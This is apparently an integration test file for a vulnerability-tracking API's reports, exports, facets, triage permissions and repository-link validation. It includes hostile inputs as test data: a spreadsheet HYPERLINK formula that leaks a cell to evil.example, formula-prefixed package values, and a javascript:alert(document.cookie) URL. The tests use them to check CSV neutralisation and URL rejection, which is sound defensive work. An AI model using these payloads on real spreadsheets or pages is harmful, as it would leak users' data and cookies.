import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import { consoleActor } from '../../src/platform/audit/actor.js';
import type { Services } from '../../src/platform/context.js';
import { addMember } from '../../src/platform/namespaces/members.js';
import { findGroup } from '../../src/platform/namespaces/groups.js';
import { findProject } from '../../src/platform/namespaces/projects.js';
import { CSV_COLUMNS, exportStream } from '../../src/vulns/export.js';
import { summaryJson } from '../../src/vulns/routes/vulnerabilities.js';
import { describeEachDatabase } from '../support/databases.js';
import { caller, makeToken, makeUser, startTestApp, type Caller, type TestApp } from '../support/app.js';
import { reportFile } from '../support/fixtures.js';

/**
 * The report API the web app builds on: the instance-level report (only what the caller can see), streamed CSV and
 * JSON exports that equal the list, the counts behind the filter menus, triage across projects (all or nothing),
 * a project's branches, and links from a vulnerability's location into the repository.
 *
 * Seed (real fixtures unless said otherwise):
 * - acme/api (GitLab URL, main @ API_SHA): Semgrep OWASP Benchmark SARIF, 1768 distinct results, plus a generic
 *   report of 2 findings written for this test whose title and package begin with formula characters → 1770
 * - acme/web (GitHub URL, default master): GitLab's master reports (SAST 5 + secret 1), then the feature branch's
 *   (SAST 5, of them 1 new; secrets 0) → 7
 * - acme/sub/lib: GitLab dependency scanning, 6 findings of 3 distinct vulnerabilities → 3
 * - other/svc: GitLab SAST with CWEs (Find Security Bugs), 3 → 3
 */
const API_SHA = 'a1b2c3d4e5f60718293a4b5c6d7e8f9012345678';
const MASTER_SHA = '1111111111111111111111111111111111111111';
const FEATURE_SHA = '2222222222222222222222222222222222222222';
const FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';

const generic = {
  vigil_generic_version: '1',
  scanner: { id: 'custom-linter', name: 'Custom linter' },
  report_type: 'sast',
  findings: [
    { title: FORMULA_TITLE, severity: 'critical', identifiers: [{ type: 'rule', value: 'formula-1' }, { type: 'cwe', value: 'CWE-1236' }], location: { file: 'src/app.py', start_line: 3, end_line: 5 } },
    { title: 'Plain, with "quotes"', severity: 'low', identifiers: [{ type: 'rule', value: 'quotes-1' }], location: { file: 'lib/util.py', start_line: 8, package: { name: '+cmd', version: '-1' } } },
  ],
};

type Item = { id: number; project_path: string; title: string; severity: string; state: string };

describeEachDatabase('the report API: instance report, export, facets, cross-project triage, branches, file links', (use) => {
  let t: TestApp;
  const as: Record<'admin' | 'mia' | 'rob' | 'olga' | 'nobody', Caller> = {} as never;
  const ids = { api: 0, web: 0, other: 0 };

  async function upload(project: string, body: Buffer | object, query: string): Promise<void> {
    t.clock.advance(60_000);
    const reply = await as.admin.post(`/api/v1/projects/${encodeURIComponent(project)}/scans?${query}`, Buffer.isBuffer(body) ? JSON.parse(body.toString('utf8')) : body);
    assert.equal(reply.status, 201, JSON.stringify(reply.body));
  }

  /** Every item of a list, following next_cursor; fails on a repeated id. */
  async function allItems(who: Caller, url: string, limit = 500): Promise<Item[]> {
    const items: Item[] = [];
    let cursor: string | null = null;
    do {
      const reply = await who.get(`${url}${url.includes('?') ? '&' : '?'}limit=${limit}${cursor ? `&cursor=${cursor}` : ''}`);
      assert.equal(reply.status, 200, JSON.stringify(reply.body));
      items.push(...reply.body.items);
      cursor = reply.body.next_cursor;
    } while (cursor);
    assert.equal(new Set(items.map((i) => i.id)).size, items.length, `${url}: an id came twice`);
    return items;
  }

  const perProject = (items: Item[]) => {
    const out: Record<string, number> = {};
    for (const i of items) out[i.project_path] = (out[i.project_path] ?? 0) + 1;
    return out;
  };

  before(async () => {
    t = await startTestApp(use());
    const svc = t.svc;
    const root = await makeUser(svc, 'root', { admin: true });
    as.admin = caller(t.app, { token: await makeToken(svc, root, ['read', 'write', 'admin']) });
    for (const [path, parent] of [['acme', null], ['sub', 'acme'], ['other', null]] as const) {
      const reply = parent ? await as.admin.post(`/api/v1/groups/${parent}/subgroups`, { path }) : await as.admin.post('/api/v1/groups', { path });
      assert.equal(reply.status, 201, JSON.stringify(reply.body));
    }
    for (const [group, body] of [
      ['acme', { path: 'api', repository_url: 'https://gitlab.example.com/acme/api' }],
      ['acme', { path: 'web', default_branch: 'master' }],
      [encodeURIComponent('acme/sub'), { path: 'lib' }],
      ['other', { path: 'svc' }],
    ] as const) {
      const reply = await as.admin.post(`/api/v1/groups/${group}/projects`, body);
      assert.equal(reply.status, 201, JSON.stringify(reply.body));
    }
    await upload('acme/api', reportFile('sarif/semgrepowasp-benchmark-sample.sarif'), `ref=main&commit=${API_SHA}`);
    await upload('acme/api', generic, `ref=main&commit=${API_SHA}`);
    await upload('acme/web', reportFile('gitlab-branches/master/gl-sast-report.json'), `ref=master&commit=${MASTER_SHA}`);
    await upload('acme/web', reportFile('gitlab-branches/master/gl-secret-detection-report.json'), `ref=master&commit=${MASTER_SHA}`);
    await upload('acme/web', reportFile('gitlab-branches/feature-branch/gl-sast-report.json'), `ref=feature-branch&commit=${FEATURE_SHA}`);
    await upload('acme/web', reportFile('gitlab-branches/feature-branch/gl-secret-detection-report.json'), `ref=feature-branch&commit=${FEATURE_SHA}`);
    await upload('acme/sub/lib', reportFile('gitlab/gl-dependency-scanning-report-many-vuln_v15.json'), 'ref=main');
    await upload('other/svc', reportFile('gitlab/gl-sast-report-cwe_v15.json'), 'ref=main');

    const actor = consoleActor('test');
    const member = async (name: 'mia' | 'rob' | 'olga' | 'nobody', grants: [kind: 'group' | 'project', path: string, role: 'reporter' | 'maintainer' | 'owner'][]) => {
      const user = await makeUser(svc, name);
      for (const [kind, path, role] of grants) {
        const target = kind === 'group' ? { kind, group: (await findGroup(svc, path))! } : { kind, project: (await findProject(svc, path))! };
        await addMember(svc, actor, target, user, role);
      }
      as[name] = caller(t.app, { token: await makeToken(svc, user, ['read', 'write']) });
    };
    await member('mia', [['group', 'acme', 'maintainer']]);
    await member('rob', [['project', 'acme/api', 'maintainer'], ['project', 'acme/web', 'reporter']]);
    await member('olga', [['group', 'other', 'owner']]);
    await member('nobody', []);

    const first = async (project: string) => (await as.admin.get(`/api/v1/projects/${encodeURIComponent(project)}/vulnerabilities?limit=1&sort=first_detected`)).body.items[0].id as number;
    ids.api = await first('acme/api');
    ids.web = await first('acme/web');
    ids.other = await first('other/svc');
  });

  after(async () => {
    await t.app.close();
  });

  test('the instance report shows every project to an admin and only their own projects to everyone else', async () => {
    const everything = { 'acme/api': 1770, 'acme/web': 7, 'acme/sub/lib': 3, 'other/svc': 3 };
    assert.deepEqual(perProject(await allItems(as.admin, '/api/v1/vulnerabilities')), everything);
    assert.deepEqual(perProject(await allItems(as.mia, '/api/v1/vulnerabilities')), { 'acme/api': 1770, 'acme/web': 7, 'acme/sub/lib': 3 });
    assert.deepEqual(perProject(await allItems(as.rob, '/api/v1/vulnerabilities')), { 'acme/api': 1770, 'acme/web': 7 });
    assert.deepEqual(perProject(await allItems(as.olga, '/api/v1/vulnerabilities')), { 'other/svc': 3 });
    assert.deepEqual(await allItems(as.nobody, '/api/v1/vulnerabilities'), []);
    // Filters work as on the group report: the owner of "other" sees its two high findings, none of acme's.
    const high = await allItems(as.olga, '/api/v1/vulnerabilities?severity=high');
    assert.deepEqual(high.map((i) => `${i.project_path} ${i.severity}`), ['other/svc high', 'other/svc high']);
    assert.equal((await as.nobody.get('/api/v1/vulnerabilities?severity=bogus')).body.field, 'query/severity');
  });

  test('cursors: paging 137 at a time gives exactly the one-page order, for every sort', async () => {
    for (const sort of ['severity', 'risk', 'due_date', 'first_detected', 'last_detected']) {
      const small = await allItems(as.admin, `/api/v1/vulnerabilities?sort=${sort}`, 137);
      const large = await allItems(as.admin, `/api/v1/vulnerabilities?sort=${sort}`, 500);
      assert.equal(small.length, 1783, sort);
      assert.deepEqual(small.map((i) => i.id), large.map((i) => i.id), sort);
    }
  });

  test('CSV export: the list total with the same filters, the documented columns, formulas neutralised, a dated file name', async () => {
    const query = 'severity=critical,medium,low&state=detected&sort=risk';
    const listed = await allItems(as.mia, `/api/v1/groups/acme/vulnerabilities?${query}`);
    const reply = await as.mia.get(`/api/v1/groups/acme/vulnerabilities/export?${query}&format=csv`);
    assert.equal(reply.status, 200);
    assert.equal(reply.headers['content-type'], 'text/csv; charset=utf-8');
    assert.equal(reply.headers['content-disposition'], 'attachment; filename="vulnerabilities-acme-20260301.csv"');
    const records: string[][] = parse(reply.body as string);
    assert.deepEqual(records[0], [...CSV_COLUMNS]);
    assert.equal(records.length - 1, listed.length);
    assert.ok(listed.length > 1000, `more than one export page (${listed.length})`);
    assert.deepEqual(records.slice(1).map((r) => Number(r[0])), listed.map((i) => i.id), 'the same rows in the same order');

    // The attacker-controlled title is text, not a formula: quoted, with a leading apostrophe.
    const column = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
    const formula = records.find((r) => r[column('title')]!.includes('HYPERLINK'))!;
    assert.equal(formula[column('title')], `'${FORMULA_TITLE}`);
    assert.ok((reply.body as string).includes(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click me"")"`));
    assert.deepEqual(
      [formula[column('project')], formula[column('severity')], formula[column('scanner')], formula[column('identifiers')], formula[column('file')], formula[column('start_line')], formula[column('sla_due_at')], formula[column('sla_status')]],
      // Critical: 7 days from its detection at 09:02, inside the due-soon window already.
      ['acme/api', 'critical', 'custom-linter', 'formula-1; CWE-1236', 'src/app.py', '3', '2026-03-08T09:02:00.000Z', 'due_soon'],
    );
    const quotes = records.find((r) => r[column('title')] === 'Plain, with "quotes"')!;
    assert.deepEqual([quotes[column('package')], quotes[column('version')]], ["'+cmd", "'-1"]);

    // The instance export of everything spans two internal pages of 1000.
    const everything: string[][] = parse((await as.admin.get('/api/v1/vulnerabilities/export?format=csv')).body as string);
    assert.equal(everything.length - 1, 1783);
    const project = await as.rob.get(`/api/v1/projects/${encodeURIComponent('acme/web')}/vulnerabilities/export?format=csv&ref=feature-branch`);
    assert.equal(project.headers['content-disposition'], 'attachment; filename="vulnerabilities-acme-web-20260301.csv"');
    assert.equal(parse(project.body as string).length - 1, 5);
    assert.equal((await as.admin.get('/api/v1/vulnerabilities/export?format=csv')).headers['content-disposition'], 'attachment; filename="vulnerabilities-all-20260301.csv"');
    assert.equal((await as.admin.get('/api/v1/vulnerabilities/export')).body.field, 'query/format');
  });

  test('JSON export: one array equal to paging through the list', async () => {
    for (const [url, who] of [
      [`/api/v1/projects/${encodeURIComponent('acme/api')}/vulnerabilities`, as.rob],
      ['/api/v1/vulnerabilities', as.olga],
    ] as const) {
      const listed = await allItems(who, `${url}?sort=risk&state=detected`);
      const reply = await who.get(`${url}/export?sort=risk&state=detected&format=json`);
      assert.equal(reply.headers['content-type'], 'application/json; charset=utf-8');
      assert.deepEqual(reply.body, listed);
    }
    const none = await as.nobody.get('/api/v1/vulnerabilities/export?format=json');
    assert.deepEqual(none.body, []);
  });

  test('an export stops walking the database when its reader goes away', async () => {
    let queries = 0;
    const counting = t.svc.db.kysely.withPlugin({
      transformQuery: (args) => {
        queries++;
        return args.node;
      },
      transformResult: async (args) => args.result,
    });
    const svc: Services = { ...t.svc, db: { ...t.svc.db, kysely: counting } };
    const projectId = (await findProject(t.svc, 'acme/api'))!.id;
    const open = () => exportStream(svc, { kind: 'project', projectId }, {}, 'severity', { format: 'json', toJson: summaryJson, pageSize: 10 });

    // Read to the end: 177 pages of 10, each the bound of its walk, its keys in index order, then those rows.
    let text = '';
    for await (const chunk of await open()) text += String(chunk);
    assert.equal((JSON.parse(text) as unknown[]).length, 1770);
    assert.equal(queries, 3 * 177);

    queries = 0;
    const stream = await open();
    for await (const _chunk of stream) break; // the reader leaves after the first chunk, which destroys the stream
    await new Promise((resolve) => setTimeout(resolve, 100));
    const walked = queries;
    await new Promise((resolve) => setTimeout(resolve, 100));
    assert.equal(queries, walked, 'no query after the reader left');
    assert.ok(walked < 20, `only a read-ahead of pages was fetched (${walked} queries for 177 pages)`);
    assert.ok(stream.destroyed);
  });

  test('facets count every vulnerability of the scope by scanner, report type, severity and state', async () => {
    const other = await as.olga.get('/api/v1/vulnerabilities/facets');
    assert.deepEqual(other.body, {
      scanners: [{ id: 'find_sec_bugs', count: 3 }],
      report_types: [{ id: 'sast', count: 3 }],
      severities: [{ id: 'high', count: 2 }, { id: 'medium', count: 1 }],
      states: [{ id: 'detected', count: 3 }],
    });
    const lib = await as.mia.get(`/api/v1/projects/${encodeURIComponent('acme/sub/lib')}/vulnerabilities/facets`);
    assert.deepEqual(lib.body, {
      scanners: [{ id: 'gemnasium', count: 3 }],
      report_types: [{ id: 'dependency_scanning', count: 3 }],
      severities: [{ id: 'high', count: 2 }, { id: 'unknown', count: 1 }],
      states: [{ id: 'detected', count: 3 }],
    });
    const acme = await as.mia.get('/api/v1/groups/acme/vulnerabilities/facets');
    const total = (facets: { count: number }[]) => facets.reduce((n, f) => n + f.count, 0);
    for (const key of ['scanners', 'report_types', 'severities', 'states']) assert.equal(total(acme.body[key]), 1780, key);
    assert.deepEqual(acme.body.scanners.map((f: { id: string }) => f.id).sort(), ['custom-linter', 'find_sec_bugs', 'gemnasium', 'gitleaks', 'semgrep']);
    const instance = await as.admin.get('/api/v1/vulnerabilities/facets');
    assert.equal(total(instance.body.states), 1783);
    assert.equal((await as.nobody.get('/api/v1/vulnerabilities/facets')).body.states.length, 0);
  });

  test('refs: the default branch first, then the latest scanned, with scan counts and what is open on each', async () => {
    const web = await as.rob.get(`/api/v1/projects/${encodeURIComponent('acme/web')}/refs`);
    assert.equal(web.status, 200);
    const scans = await use().kysely.selectFrom('scans').innerJoin('projects', 'projects.id', 'scans.project_id').select(['scans.id', 'scans.ref', 'scans.created_at']).where('projects.full_path', '=', 'acme/web').orderBy('scans.id').execute();
    const last = (ref: string) => scans.filter((s) => s.ref === ref).at(-1)!;
    assert.deepEqual(web.body.items, [
      { ref: 'master', default: true, scans: 2, last_scan_at: last('master').created_at, last_scan_id: last('master').id, open_present: 6 },
      { ref: 'feature-branch', default: false, scans: 2, last_scan_at: last('feature-branch').created_at, last_scan_id: last('feature-branch').id, open_present: 5 },
    ]);
    const search = async (term: string) => (await as.rob.get(`/api/v1/projects/${encodeURIComponent('acme/web')}/refs?search=${term}`)).body.items.map((r: { ref: string }) => r.ref);
    assert.deepEqual(await search('FEAT'), ['feature-branch']);
    assert.deepEqual(await search('mast'), ['master']);
    assert.deepEqual(await search('nothing'), []);
    // A project without scans still offers its default branch.
    await as.admin.post('/api/v1/groups/other/projects', { path: 'fresh', default_branch: 'trunk' });
    assert.deepEqual((await as.olga.get(`/api/v1/projects/${encodeURIComponent('other/fresh')}/refs`)).body.items, [
      { ref: 'trunk', default: true, scans: 0, last_scan_at: null, last_scan_id: null, open_present: 0 },
    ]);
    assert.equal((await as.olga.get(`/api/v1/projects/${encodeURIComponent('acme/web')}/refs`)).status, 404);
  });

  test('cross-project triage changes every id or none: 404 for an id the caller cannot see, 403 without maintainer on its project', async () => {
    const db = use().kysely;
    const snapshot = async () => ({
      states: await db.selectFrom('vulnerabilities').select(['id', 'state']).where('id', 'in', [ids.api, ids.web, ids.other]).orderBy('id').execute(),
      events: Number((await db.selectFrom('vulnerability_events').select(sql<number>`count(*)`.as('n')).executeTakeFirstOrThrow()).n),
    });
    const before = await snapshot();
    const confirm = (list: number[]) => ({ ids: list, state: 'confirmed', comment: 'seen in production' });

    const reporterOnly = await as.rob.post('/api/v1/vulnerabilities/triage', confirm([ids.api, ids.web]));
    assert.equal(reporterOnly.status, 403);
    assert.equal(reporterOnly.body.detail, 'this needs the maintainer role on project "acme/web"; you have reporter');
    const invisible = await as.rob.post('/api/v1/vulnerabilities/triage', confirm([ids.api, ids.other]));
    assert.deepEqual([invisible.status, invisible.body.detail], [404, `vulnerability ${ids.other} not found`]);
    const unknown = await as.mia.post('/api/v1/vulnerabilities/triage', confirm([ids.api, 987654321]));
    assert.deepEqual([unknown.status, unknown.body.detail], [404, 'vulnerability 987654321 not found']);
    assert.equal((await as.nobody.post('/api/v1/vulnerabilities/triage', confirm([ids.api]))).status, 404);
    const noReason = await as.mia.post('/api/v1/vulnerabilities/triage', { ids: [ids.api, ids.web], state: 'dismissed', comment: 'x' });
    assert.deepEqual([noReason.status, noReason.body.field], [400, 'body/reason']);
    assert.equal((await as.mia.post('/api/v1/vulnerabilities/triage', { ids: [], state: 'confirmed' })).status, 400);
    assert.deepEqual(await snapshot(), before, 'nothing changed');

    const dismissed = await as.mia.post('/api/v1/vulnerabilities/triage', { ids: [ids.api, ids.web, ids.api], state: 'dismissed', reason: 'false_positive', comment: 'test code' });
    assert.deepEqual([dismissed.status, dismissed.body], [200, { changed: 2, unchanged: 0 }]);
    const after = await snapshot();
    assert.deepEqual(after.states.map((s) => s.state), [ids.api, ids.web, ids.other].sort((a, b) => a - b).map((id) => (id === ids.other ? 'detected' : 'dismissed')));
    assert.equal(after.events, before.events + 2);
    const audit = await db.selectFrom('audit_events').select(['action', 'subject_id', 'scope_path']).where('action', '=', 'vulnerability.triage').orderBy('scope_path').execute();
    assert.deepEqual(audit, [
      { action: 'vulnerability.triage', subject_id: String(ids.api), scope_path: 'acme/api' },
      { action: 'vulnerability.triage', subject_id: String(ids.web), scope_path: 'acme/web' },
    ]);
    // An admin may triage anywhere.
    const admin = await as.admin.post('/api/v1/vulnerabilities/triage', confirm([ids.web, ids.other]));
    assert.deepEqual(admin.body, { changed: 2, unchanged: 0 });
  });

  test('repository URL: http(s) only, no credentials; the detail links the location at the commit that saw it', async () => {
    const create = (path: string, url: string) => as.admin.post('/api/v1/groups/acme/projects', { path, repository_url: url });
    for (const [url, message] of [
      ['javascript:alert(document.cookie)', /absolute http/],
      ['ftp://git.example.com/acme/x', /absolute http/],
      ['https:gitlab.com/acme/x', /absolute http/],
      ['https://oauth2:glpat-SECRET@gitlab.com/acme/x', /credentials/],
      ['https://deploy@gitlab.com/acme/x', /credentials/],
      ['https://gitlab.com/acme/x?private_token=1', /query or a fragment/],
      [`https://gitlab.com/${'a'.repeat(490)}`, /500/],
    ] as const) {
      const reply = await create('bad', url);
      assert.equal(reply.status, 400, url);
      assert.equal(reply.body.field, 'body/repository_url', url);
      assert.match(reply.body.detail, message, url);
      assert.ok(!JSON.stringify(reply.body).includes('SECRET'), 'the refusal does not echo the credentials');
    }
    const web = encodeURIComponent('acme/web');
    assert.equal((await as.admin.get(`/api/v1/projects/${web}`)).body.repository_url, null);
    assert.equal((await as.admin.patch(`/api/v1/projects/${web}`, { repository_url: 'javascript:alert(1)' })).body.field, 'body/repository_url');
    assert.equal((await as.admin.patch(`/api/v1/projects/${web}`, { repository_url: 'https://github.com/acme/web.git' })).body.repository_url, 'https://github.com/acme/web.git');

    // acme/api on GitLab: the generic finding at src/app.py:3-5, seen on main at API_SHA.
    const formula = (await allItems(as.admin, `/api/v1/projects/${encodeURIComponent('acme/api')}/vulnerabilities?identifier=formula-1`))[0]!;
    const detail = (await as.rob.get(`/api/v1/vulnerabilities/${formula.id}`)).body;
    assert.equal(detail.repository_url, 'https://gitlab.example.com/acme/api');
    assert.equal(detail.location_url, `https://gitlab.example.com/acme/api/-/blob/${API_SHA}/src/app.py#L3-5`);
    assert.deepEqual(detail.occurrences.map((o: { ref: string; url: string }) => [o.ref, o.url]), [['main', `https://gitlab.example.com/acme/api/-/blob/${API_SHA}/src/app.py#L3-5`]]);

    // acme/web on GitHub: ECB mode only on the feature branch links the default branch by name, its occurrence the branch's commit.
    const file = 'app/src/main/groovy/com/gitlab/security_products/tests/App.groovy';
    const ecb = (await allItems(as.admin, `/api/v1/projects/${web}/vulnerabilities?present_on_default=false`))[0]!;
    const ecbDetail = (await as.admin.get(`/api/v1/vulnerabilities/${ecb.id}`)).body;
    assert.equal(ecbDetail.location_url, `https://github.com/acme/web/blob/master/${file}#L29`);
    assert.deepEqual(ecbDetail.occurrences.map((o: { ref: string; url: string }) => [o.ref, o.url]), [['feature-branch', `https://github.com/acme/web/blob/${FEATURE_SHA}/${file}#L29`]]);

    assert.equal((await as.admin.patch(`/api/v1/projects/${web}`, { repository_url: null })).body.repository_url, null);
    const unlinked = (await as.admin.get(`/api/v1/vulnerabilities/${ecb.id}`)).body;
    assert.deepEqual([unlinked.repository_url, unlinked.location_url, unlinked.occurrences[0].url], [null, null, null]);
  });
});
